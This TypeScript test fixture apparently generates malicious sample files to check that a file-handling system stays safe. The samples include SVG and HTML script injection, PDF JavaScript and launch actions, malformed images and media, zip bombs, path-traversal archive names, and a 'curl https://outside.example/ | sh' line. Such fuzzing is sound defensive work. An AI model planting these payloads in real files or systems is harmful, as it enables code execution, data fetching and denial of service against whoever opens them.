import { deflateRawSync } from 'node:zlib';
import type { Dice } from '../../checks/random.ts';
import { chatText, letterText, makeDocx, makePdf, makePng, makeXlsx, makeZip } from './samples.ts';

/** Files as somebody would make them who wants whoever opens them to run something, fetch something or fall over. */
export type NastyFile = { readonly name: string; readonly content: Buffer };

/** What a script of such a file would do, and what it would fetch: both are looked for afterwards. */
export const stolen = 'stolen';
export const outside = 'https://outside.example';
const steal = `try{top.${stolen}=1}catch(e){};try{parent.${stolen}=1}catch(e){};self.${stolen}=1`;
const svg = (inside: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`;
const html = (inside: string): string => `<!doctype html><html><body>${inside}</body></html>`;

type Kind = { readonly name: string; readonly make: readonly ((dice: Dice) => Buffer | string)[] };

const claim = (width: number, height: number): Buffer => makePng(2, 2, { claims: [width, height] });
const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
const box = (type: string, body: Buffer | string, size?: number): Buffer => {
  const bytes = Buffer.from(body as string);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(size ?? bytes.length + 8, 0);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, bytes]);
};

const pdfOf = (catalog: string, objects: readonly string[] = []): Buffer => makePdf(['One', 'Two'], { catalog, objects });

/** A stream of zeros that is small on the disk: `mebibytes` come out of it. */
function bomb(mebibytes: number): Buffer {
  return deflateRawSync(Buffer.alloc(mebibytes * 1024 * 1024));
}

function bombZip(name: string, mebibytes: number): Buffer {
  // Declares one byte: what counts is what comes out.
  return makeZip([[name, Buffer.alloc(mebibytes * 1024 * 1024)]], () => 1);
}

const kinds: readonly Kind[] = [
  {
    name: 'svg',
    make: [
      () => svg(`<script>${steal}</script>`),
      () => svg('', `onload="${steal}"`),
      () => svg(`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${outside}/f"/></foreignObject>`),
      () => svg(`<image href="${outside}/i.png"/><use xlink:href="${outside}/u.svg#a"/>`),
      () => svg(`<style>@import url(${outside}/s.css)</style><a href="javascript:${steal}"><text>x</text></a>`),
      () => svg(`<animate attributeName="href" to="javascript:${steal}"/>`),
    ],
  },
  {
    name: 'html',
    make: [
      () => html(`<script>${steal}</script><img src=x onerror="${steal}">`),
      () => html(`<meta http-equiv=refresh content="0;url=${outside}/"><base href="${outside}/">`),
      () => html(`<iframe srcdoc="<script>${steal}</script>"></iframe><object data="${outside}/o"></object>`),
      () => html(`<link rel=prefetch href="${outside}/p"><form action="${outside}/" id=f></form><script>f.submit()</script>`),
    ],
  },
  {
    name: 'pdf',
    make: [
      () => pdfOf(`/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.${stolen}=1) >>`),
      () => pdfOf('/OpenAction << /S /Launch /F (/bin/sh) >>'),
      () => pdfOf(`/OpenAction << /S /URI /URI (${outside}/) >>`),
      () => pdfOf('/AA << /WC << /S /JavaScript /JS (app.launchURL\\("x"\\)) >> >>'),
      () =>
        pdfOf('/Names << /EmbeddedFiles << /Names [(evil.exe) 9 0 R] >> /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>'),
      () => pdfOf(`/AcroForm << /XFA (<xdp><script>${stolen}=1</script></xdp>) /Fields [] >>`),
      () => pdfOf(`/OpenAction << /S /SubmitForm /F (${outside}/) >>`),
      () => Buffer.from(makePdf(['One']).toString('latin1').replace('/Kids [3 0 R]', '/Kids [2 0 R]'), 'latin1'),
      () => Buffer.from(makePdf(['One']).toString('latin1').replace('[0 0 612 792]', '[0 0 99999999 99999999]'), 'latin1'),
      () => Buffer.from(makePdf(['One']).toString('latin1').replace('/Count 1', '/Count 999999999'), 'latin1'),
      () => makePdf([`${'q '.repeat(20_000)}`]),
    ],
  },
  {
    name: 'picture',
    make: [
      () => claim(50_000, 50_000),
      () => claim(0xffffffff, 0xffffffff),
      () => claim(0, 0),
      () => latin(`GIF89a\xff\xff\xff\xff\x80\0\0${'\0'.repeat(40)}`),
      () => latin(`BM${'\0'.repeat(12)}\x28\0\0\0\x50\xc3\0\0\x50\xc3\0\0\x01\0\x18\0${'\0'.repeat(60)}`),
      () => latin(`\xff\xd8\xff\xc0\0\x11\x08\xc3\x50\xc3\x50\x03${'\0'.repeat(60)}`),
      () => latin(`RIFF\0\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\x4f\xc3\0\x4f\xc3\0${'\0'.repeat(60)}`),
      () => makePng(60, 60).subarray(0, 80),
      () => box('ftyp', 'heic\0\0\0\0mif1heic'),
      () => Buffer.concat([box('ftyp', 'heic\0\0\0\0mif1heic'), box('meta', `\0\0\0\0${'iprp'.repeat(50)}`, 0xffffff)]),
      () => Buffer.concat([box('ftyp', 'avif\0\0\0\0mif1avif'), box('ispe', '\0\0\0\0\0\0\xc3\x50\0\0\xc3\x50', 20)]),
    ],
  },
  {
    name: 'recording',
    make: [
      () => Buffer.concat([box('ftyp', 'isom\0\0\0\0isomavc1'), box('moov', box('trak', box('mdia', '')), 0x7fffffff)]),
      () => Buffer.concat([box('ftyp', 'isom\0\0\0\0'), ...Array.from({ length: 3000 }, () => box('free', ''))]),
      () => latin(`\x1aE\xdf\xa3\x01\xff\xff\xff\xff\xff\xff\xff${'\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xfe'.repeat(300)}`),
      () => latin(`RIFF\xff\xff\xff\xffWAVEfmt \x10\0\0\0\x01\0\xff\xff\xff\xff\xff\xff\0\0\0\0\0\0\0\0data\xff\xff\xff\x7f`),
      () => latin(`OggS\0\x02${'\xff'.repeat(400)}`),
      () => latin(`ID3\x04\0\0\x7f\x7f\x7f\x7f${'\0'.repeat(4000)}`),
      () => latin(`fLaC\0\0\0\x22${'\xff'.repeat(300)}`),
      () => latin(`DHAV${'\xfd'.repeat(3000)}`),
    ],
  },
  {
    name: 'program',
    make: [
      () => latin(`L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F${'\0'.repeat(60)}cmd.exe /c calc`),
      () => latin(`MZ${'\0'.repeat(300)}This program cannot be run in DOS mode`),
      () => latin(`\x7fELF\x02\x01\x01${'\0'.repeat(200)}`),
      () => `[InternetShortcut]\nURL=${outside}/\nIconFile=\\\\outside.example\\a.ico\n`,
      () => `#!/bin/sh\ncurl ${outside}/ | sh\n`,
    ],
  },
  {
    name: 'polyglot',
    make: [
      () => latin(`GIF89a/*\0\0\0\0*/=1;${steal}//`),
      () => Buffer.concat([makePng(8, 8), Buffer.from(html(`<script>${steal}</script>`))]),
      () => Buffer.concat([Buffer.from(html(`<script>${steal}</script>`)), makePdf(['One'])]),
      () => Buffer.concat([makePdf(['One']), makeZip([['a.txt', 'x']])]),
      () =>
        Buffer.concat([
          makeZip([
            ['content.xml', '<p>x</p>'],
            ['mimetype', 'x'],
            ['word/document.xml', '<p>y</p>'],
            ['xl/workbook.xml', '<z/>'],
          ]),
        ]),
      () => Buffer.concat([latin('\xff\xd8\xff\xe0'), makeZip([['x.html', html(`<script>${steal}</script>`)]])]),
    ],
  },
  {
    name: 'archive',
    make: [
      () => bombZip('word/document.xml', 90),
      () => bombZip('xl/workbook.xml', 90),
      () =>
        makeZip([
          ['content.xml', Buffer.concat([Buffer.from('<p>'), bomb(1)])],
          ['mimetype', 'x'],
        ]),
      () => makeZip(Array.from({ length: 3000 }, (_, n) => [`${'../'.repeat(n % 9)}n${n}`, ''] as const)),
      () => makeZip([['a.zip', makeZip([['b.zip', makeZip([['c', bomb(4)]])]])]]),
      () =>
        makeZip([
          ['CON', 'x'],
          ['a\u202egpj.exe', 'y'],
          ['x\0y', 'z'],
        ]).subarray(0, 150),
      () => Buffer.concat([latin('PK\x03\x04'), Buffer.alloc(400, 0xff)]),
      () => makeDocx([`${'<w:p>'.repeat(50_000)}`]),
      () => makeXlsx(Array.from({ length: 3000 }, () => ['=HYPERLINK("x")', 'y'])),
    ],
  },
  {
    name: 'letter',
    make: [
      () => letterText,
      () => letterText.replace('multipart/mixed; boundary="b"', `multipart/mixed; boundary="${'b'.repeat(9000)}"`),
      () =>
        `From: a\r\nTo: b\r\nSubject: c\r\nMIME-Version: 1.0\r\n${Array.from({ length: 400 }, (_, n) => `Content-Type: multipart/mixed; boundary="b${n}"\r\n\r\n--b${n}\r\n`).join('')}x`,
      () => `From: a\r\nTo: b\r\nSubject: ${'=?utf-8?B?////?='.repeat(4000)}\r\n\r\nx`,
      () =>
        `From: a\r\nTo: b\r\nSubject: x\r\nContent-Type: text/html\r\n\r\n<img src="${outside}/i.png"><script>${steal}</script>${'<div>'.repeat(30_000)}`,
      () => Buffer.concat([latin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'), Buffer.alloc(3000, 0xff)]),
      () =>
        Buffer.concat([
          latin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'),
          Buffer.alloc(504),
          Buffer.from('__substg1.0_0037001F', 'utf16le'),
          Buffer.alloc(2000),
        ]),
    ],
  },
  {
    name: 'text',
    make: [
      () => '\u202e\u2066'.repeat(5000),
      () => `${'a'.repeat(300_000)}`,
      () => `${','.repeat(200_000)}\n${'"'.repeat(99_999)}`,
      () => Buffer.concat([latin('\xff\xfe'), Buffer.alloc(5000, 0xd8)]),
      () => `${chatText}\n`.repeat(3000),
      () => `[1/1/2026, 10:00] ${': '.repeat(20_000)}\n[1/1/2026, 10:00] x: ${'<attached: '.repeat(3000)}`,
      () => Buffer.alloc(0),
      (dice) => Buffer.from(Array.from({ length: 4000 }, () => dice.below(256))),
    ],
  },
];

/** Bytes here and there are other ones, and sometimes the end is missing. */
function spoil(content: Buffer, dice: Dice): Buffer {
  const spoiled = Buffer.from(content);
  for (let n = 0; n < 1 + dice.below(12) && spoiled.length > 0; n += 1) spoiled[dice.below(spoiled.length)] = dice.below(256);
  return dice.chance(0.2) ? spoiled.subarray(0, dice.below(spoiled.length + 1)) : spoiled;
}

/** `count` such files, the kinds in turn: first each as it is made, then spoiled ones. */
export function nastyFiles(count: number, dice: Dice): readonly NastyFile[] {
  const extension: { readonly [kind: string]: string } = { letter: 'eml', text: 'csv' };
  return Array.from({ length: count }, (_, n) => {
    const kind = kinds[n % kinds.length]!;
    const round = Math.floor(n / kinds.length);
    // A small run sees others each time.
    const made = Buffer.from(kind.make[round < kind.make.length ? round : dice.below(kind.make.length)]!(dice) as string);
    const content = round < kind.make.length ? made : spoil(made, dice);
    return { name: `${kind.name}-${n}.${extension[kind.name] ?? kind.name}`, content };
  });
}
